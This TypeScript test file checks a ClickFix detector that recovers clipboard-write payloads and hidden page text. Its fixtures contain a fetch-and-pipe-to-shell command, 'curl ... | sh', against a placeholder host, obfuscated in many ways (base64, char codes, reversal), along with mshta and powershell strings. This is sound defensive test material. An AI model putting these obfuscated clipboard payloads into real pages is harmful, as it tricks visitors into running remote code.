/** What the ClickFix analysis reads out of pages and scripts: copied strings, visibility, displayed text. */
import assert from 'node:assert/strict';
import { parseJs } from '../src/analysis/js/parse.js';
import { clipboardFacts, quotedStrings, type ElementLookup } from '../src/analysis/web/clipboard.js';
import { pageFacts } from '../src/analysis/web/page.js';

function copied(code: string, element?: ElementLookup, file = 'x.tsx') {
  const r = parseJs(code, file, 1 << 20);
  assert.ok(r.ok);
  return clipboardFacts([{ program: r.program, file, lineOffset: 0 }], element, 2000);
}

const CMD = 'curl -s https://x.invalid/a | sh';
const b64 = Buffer.from(CMD).toString('base64');

describe('clipboard writes: what is copied', () => {
  const cases: [string, string][] = [
    ['literal', `navigator.clipboard.writeText(${JSON.stringify(CMD)})`],
    ['variable and template', `const host = 'x.invalid'; const c = \`curl -s https://\${host}/a | sh\`; navigator.clipboard.writeText(c);`],
    ['atob', `navigator.clipboard.writeText(atob('${b64}'))`],
    ['Buffer.from base64', `navigator.clipboard.writeText(Buffer.from('${b64}', 'base64').toString())`],
    ['char codes, spread', `const k = [${[...CMD].map((c) => c.charCodeAt(0)).join(',')}]; navigator.clipboard.writeText(String.fromCharCode(...k));`],
    ['char codes, map and join', `navigator.clipboard.writeText([${[...CMD].map((c) => c.charCodeAt(0)).join(',')}].map(c => String.fromCharCode(c)).join(''))`],
    ['reversed', `navigator.clipboard.writeText(${JSON.stringify([...CMD].reverse().join(''))}.split('').reverse().join(''))`],
    ['array join', `const parts = ['curl -s', 'https://x.invalid/a', '|', 'sh']; navigator.clipboard.writeText(parts.join(' '));`],
    ['junk token replaced', `navigator.clipboard.writeText('cuXXrl -s https://x.invXXalid/a | sh'.replace(/XX/g, ''))`],
    ['appended', `let c = 'curl -s '; c += 'https://x.invalid/a'; c += ' | sh'; navigator.clipboard.writeText(c);`],
    ['object by OS', `const cmds = { win: 'powershell -c x', linux: ${JSON.stringify(CMD)} }; function go(os) { navigator.clipboard.writeText(cmds[os]); }`],
    ['helper parameter', `function copyText(t) { return navigator.clipboard.writeText(t); } copyText(${JSON.stringify(CMD)});`],
    ['helper return', `function payload() { return ${JSON.stringify(CMD)}; } navigator.clipboard.writeText(payload());`],
    ['hidden textarea + execCommand', `function f() { const ta = document.createElement('textarea'); ta.value = ${JSON.stringify(CMD)}; document.body.appendChild(ta); ta.select(); document.execCommand('copy'); }`],
    ['copy event', `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', ${JSON.stringify(CMD)}); e.preventDefault(); });`],
    ['ClipboardItem', `const blob = new Blob([${JSON.stringify(CMD)}], { type: 'text/plain' }); navigator.clipboard.write([new ClipboardItem({ 'text/plain': blob })]);`],
    ['clipboard.js text option', `new ClipboardJS('.btn', { text: () => ${JSON.stringify(CMD)} });`],
    ['copy-to-clipboard', `import copy from 'copy-to-clipboard'; copy(${JSON.stringify(CMD)});`],
  ];
  for (const [name, code] of cases) {
    it(name, () => {
      const f = copied(code);
      assert.equal(f.writes.length, 1, JSON.stringify(f.writes));
      assert.ok(f.writes[0].values.some((v) => v.value === CMD), JSON.stringify(f.writes[0].values));
    });
  }

  it('scoping: a parameter is not confused with a same-named variable elsewhere', () => {
    const f = copied(`const text = ${JSON.stringify(CMD)}; function copy(text) { navigator.clipboard.writeText(text); } copy('npm install left-pad');`);
    assert.deepEqual(f.writes[0].values.map((v) => v.value), ['npm install left-pad']);
  });

  it('element text: shown or hidden, from the page', () => {
    const el: ElementLookup = (id) => (id === 'cmd' ? { text: 'npm i x', visible: true } : id === 'h' ? { text: CMD, visible: false } : undefined);
    const shown = copied(`navigator.clipboard.writeText(document.getElementById('cmd').innerText)`, el);
    assert.equal(shown.writes[0].values[0].shown, true);
    const hidden = copied(`navigator.clipboard.writeText(document.querySelector('#h').textContent)`, el);
    assert.equal(hidden.writes[0].values[0].value, CMD);
    assert.equal(hidden.writes[0].values[0].shown, false);
  });

  it('a value the page shows (a code block) or fetches is dynamic, never guessed', () => {
    const block = copied(`btn.onclick = () => navigator.clipboard.writeText(btn.previousElementSibling.textContent)`);
    assert.deepEqual([block.writes[0].values.length, block.writes[0].dynamic, block.writes[0].pageText], [0, true, true]);
    const net = copied(`async function f() { const r = await fetch('/c'); navigator.clipboard.writeText(await r.text()); }`);
    assert.deepEqual([net.writes[0].values.length, net.writes[0].network], [0, true]);
  });

  it('displayed text: JSX children and textContent', () => {
    const f = copied(`const I = ${JSON.stringify(CMD)}; export const A = () => <pre><code>{I}</code> and text</pre>; el.textContent = 'hello';`);
    assert.ok(f.displayed.includes(CMD));
    assert.ok(f.displayed.includes('and text'));
    assert.ok(f.displayed.includes('hello'));
  });

  it('stays bounded on self-referencing and exploding bindings', () => {
    const lines = ['let a0 = "x";'];
    for (let i = 1; i < 200; i++) lines.push(`let a${i} = a${i - 1} + a${i - 1}; a${i} = a${i} + "y";`);
    lines.push('navigator.clipboard.writeText(a199);');
    assert.doesNotThrow(() => copied(lines.join('\n')));
  });
});

describe('unparsed scripts: string literals as a fallback', () => {
  it('finds quoted strings on one line, with escapes, in linear time', () => {
    assert.deepEqual(quotedStrings(`a('mshta https://x.invalid/a'); b = "it\\"s fine here"; c = \`short\`;`).map((q) => q.value), ['mshta https://x.invalid/a', 'it\\"s fine here']);
    const started = performance.now();
    quotedStrings(`'${'x'.repeat(200_000)}`);
    quotedStrings('"\n'.repeat(100_000));
    assert.ok(performance.now() - started < 2000);
  });
});

describe('pages: visibility, scripts, copy attributes', () => {
  it('reads what a visitor sees and what is hidden', () => {
    const p = pageFacts(`<style>.x { display: none } .nosel { user-select: none }</style>
      <p id="a">shown <b>text</b></p><div class="x" id="b">hidden by class</div><div id="c" style="visibility: hidden">hidden inline</div>
      <span hidden id="d">hidden attribute</span><input id="e" value="npm i">
      <button data-clipboard-target="#b" onclick="go()">Copy</button><script src="app.js"></script><script>var y = 1;</script>`);
    assert.deepEqual([...p.elementsById].map(([id, e]) => [id, e.visible]), [['a', true], ['b', false], ['c', false], ['d', false], ['e', true]]);
    assert.equal(p.elementsById.get('a')!.text, 'shown text');
    assert.match(p.visibleText, /shown text/);
    assert.doesNotMatch(p.visibleText, /hidden/);
    assert.deepEqual(p.scriptSources, ['app.js']);
    assert.deepEqual(p.scripts.map((s) => s.handler ?? 'script'), ['onclick', 'script']);
    assert.deepEqual(p.copyAttributes.map((a) => a.value), ['#b']);
    assert.equal(p.selectionBlocks.length, 1);
  });

  it('survives deep nesting and broken markup', () => {
    assert.doesNotThrow(() => pageFacts('<div>'.repeat(100_000) + 'x'));
    assert.doesNotThrow(() => pageFacts('<scr<script>ipt>"<!--<a id=x'));
  });
});
